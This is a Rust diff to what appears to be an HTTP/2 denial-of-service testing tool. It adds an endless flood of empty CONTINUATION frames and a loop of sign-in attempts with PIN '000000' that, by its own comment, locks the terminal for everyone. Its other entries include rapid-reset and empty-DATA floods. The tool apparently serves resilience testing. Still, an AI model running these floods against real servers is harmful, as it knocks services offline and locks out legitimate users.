@@ -71,6 +71,7 @@ floods! {
     "rapid reset inside" 8, rapid_reset_inside;
     "made you reset" 8, made_you_reset;
     "CONTINUATION" 8, continuation;
+    "empty CONTINUATION" 8, empty_continuation;
     "empty DATA" 8, empty_data;
     "empty DATA inside" 8, empty_data_inside;
     "PING" 8, pings;
@@ -79,6 +80,8 @@ floods! {
     "idle tunnels" 60, idle_tunnels;
     "requests" 16, requests;
     "refusals" 16, refusals;
+    // Last, since nobody signs in at this terminal for a minute after it.
+    "sign-ins" 16, sign_ins;
 }
 
 pub fn flood(name: &str) -> Option<Flood> {
@@ -346,6 +349,17 @@ async fn continuation(attack: &Attack) -> Result<()> {
     .await
 }
 
+/// The same in pieces without a byte, which no limit of bytes ends.
+async fn empty_continuation(attack: &Attack) -> Result<()> {
+    let stream = attack.client.open(&["h2"]).await?;
+    let mut first = Vec::new();
+    frames::headers(&mut first, 0, 1, &connect_head(attack));
+    frames_flood(attack, stream, first, |bytes| {
+        (0..BATCH).for_each(|_| frames::continuation(bytes, 1, &[]));
+    })
+    .await
+}
+
 /// DATA without a byte costs no window (CVE-2019-9518).
 async fn empty_data(attack: &Attack) -> Result<()> {
     let stream = attack.client.open(&["h2"]).await?;
@@ -433,6 +447,16 @@ async fn idle_tunnels(attack: &Attack) -> Result<()> {
         attack.held.fetch_max(attack.told().get("200").copied().unwrap_or_default(), Relaxed);
     }
     std::future::pending().await
+}
+
+/// Ever new people's PINs.
+async fn sign_ins(attack: &Attack) -> Result<()> {
+    loop {
+        let tried = serde_json::json!({ "person": format!("personne-{}", attack.next()), "pin": "000000" });
+        let answer = attack.client.api("POST", "/v1/sessions", Some(tried)).await?;
+        attack.count(1);
+        attack.note(answer.status, answer.reason().as_deref());
+    }
 }
 
 /// What is allowed, as fast as it goes: a hundred at once on each connection.
